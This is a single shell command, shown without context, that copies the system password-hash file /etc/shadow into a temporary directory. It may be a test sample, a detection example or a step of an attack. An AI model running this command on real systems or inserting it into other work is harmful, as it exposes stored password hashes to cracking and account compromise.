cp /etc/shadow "$TMPDIR/s"
